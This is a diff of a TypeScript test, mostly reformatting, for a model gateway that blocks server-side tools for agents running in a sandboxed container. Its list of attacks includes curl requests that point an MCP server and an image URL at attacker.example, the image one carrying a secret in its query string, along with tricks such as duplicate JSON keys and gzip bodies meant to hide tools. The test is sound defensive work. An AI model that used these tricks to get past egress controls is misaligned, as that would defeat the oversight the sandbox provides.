@@ -17,18 +17,60 @@ const post = (path: string, json: string, headers: string[] = []) =>
   `curl -sS -o /tmp/body -w '%{http_code}\\n' -X POST -H 'content-type: application/json' ${headers.map((h) => `-H '${h}'`).join(' ')} --data-binary '${json}' "$ANTHROPIC_BASE_URL${path}"; cat /tmp/body; echo`;
 
 const ATTACKS: { name: string; script: string; status: number; reason: string }[] = [
-  { name: 'web_search tool', script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}'), status: 403, reason: 'provider_tool' },
-  { name: 'web_fetch tool', script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}'), status: 403, reason: 'provider_tool' },
-  { name: 'MCP server list', script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}'), status: 403, reason: 'provider_tool' },
   {
-    name: 'image fetched by URL',
-    script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?k=secret"}}]}]}'),
+    name: 'web_search tool',
+    script: post(
+      '/v1/messages',
+      '{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}',
+    ),
     status: 403,
     reason: 'provider_tool',
   },
-  { name: 'code execution beta header', script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[]}', ['anthropic-beta: code-execution-2025-08-25']), status: 403, reason: 'provider_tool' },
+  {
+    name: 'web_fetch tool',
+    script: post(
+      '/v1/messages',
+      '{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}',
+    ),
+    status: 403,
+    reason: 'provider_tool',
+  },
+  {
+    name: 'MCP server list',
+    script: post(
+      '/v1/messages',
+      '{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}',
+    ),
+    status: 403,
+    reason: 'provider_tool',
+  },
+  {
+    name: 'image fetched by URL',
+    script: post(
+      '/v1/messages',
+      '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?k=secret"}}]}]}',
+    ),
+    status: 403,
+    reason: 'provider_tool',
+  },
+  {
+    name: 'code execution beta header',
+    script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[]}', [
+      'anthropic-beta: code-execution-2025-08-25',
+    ]),
+    status: 403,
+    reason: 'provider_tool',
+  },
   { name: 'file upload endpoint', script: post('/v1/files', '{}'), status: 404, reason: 'gateway_path' },
-  { name: 'duplicate key hiding a tool', script: post('/v1/messages', '{"model":"m","messages":[],"tools":[],"tools":[{"type":"web_search_20250305","name":"w"}]}'), status: 400, reason: 'gateway_body' },
+  {
+    name: 'duplicate key hiding a tool',
+    script: post(
+      '/v1/messages',
+      '{"model":"m","messages":[],"tools":[],"tools":[{"type":"web_search_20250305","name":"w"}]}',
+    ),
+    status: 400,
+    reason: 'gateway_body',
+  },
   {
     name: 'gzip-compressed body',
     script: `printf '{"tools":[{"type":"web_search_20250305","name":"w"}]}' | gzip > /tmp/gz; curl -sS -o /tmp/body -w '%{http_code}\\n' -X POST -H 'content-type: application/json' -H 'content-encoding: gzip' --data-binary @/tmp/gz "$ANTHROPIC_BASE_URL/v1/messages"; cat /tmp/body; echo`,
@@ -47,12 +89,22 @@ describe('model gateway refuses server-side tools (container)', { skip: env.skip
     const session = await startEgressSession({
       run: 'run-tools',
       step: 'agent',
-      egress: { mode: 'allowlist', allow: [], hosts: {}, providers: ['anthropic'], credentials: 'placeholder', providerTools, warnings: [] },
+      egress: {
+        mode: 'allowlist',
+        allow: [],
+        hosts: {},
+        providers: ['anthropic'],
+        credentials: 'placeholder',
+        providerTools,
+        warnings: [],
+      },
       containerUser: CONTAINER_USER,
       upstreams: { anthropic: `http://127.0.0.1:${upstream.port}` },
       hostEnv: { ANTHROPIC_API_KEY: 'sk-ant-integration-tools' },
       onRecord: (r) => records.push(r),
-      lookup: async (name) => { throw new Error(`test resolver refuses ${name}`); },
+      lookup: async (name) => {
+        throw new Error(`test resolver refuses ${name}`);
+      },
       ...bridgeOption(env),
     });
     sessions.push(session);
@@ -62,7 +114,9 @@ describe('model gateway refuses server-side tools (container)', { skip: env.skip
   before(async () => {
     upstream = await httpServer((req, res) => {
       let body = '';
-      req.on('data', (c: Buffer) => { body += c.toString(); });
+      req.on('data', (c: Buffer) => {
+        body += c.toString();
+      });
       req.on('end', () => {
         upstreamBodies.push(body);
         res.writeHead(200, { 'content-type': 'application/json' }).end('{"type":"message","ok":true}');
@@ -90,7 +144,10 @@ describe('model gateway refuses server-side tools (container)', { skip: env.skip
     });
     assert.deepEqual(upstreamBodies, [], 'the upstream received none of them');
     const refusals = records.filter((rec) => rec.kind === 'gateway' && !rec.allowed);
-    assert.deepEqual(refusals.map((rec) => [rec.reason, rec.status]), ATTACKS.map((a) => [a.reason, a.status]));
+    assert.deepEqual(
+      refusals.map((rec) => [rec.reason, rec.status]),
+      ATTACKS.map((a) => [a.reason, a.status]),
+    );
     assert.ok(refusals.every((rec) => typeof rec.detail === 'string' && rec.detail.length > 0));
   });
 
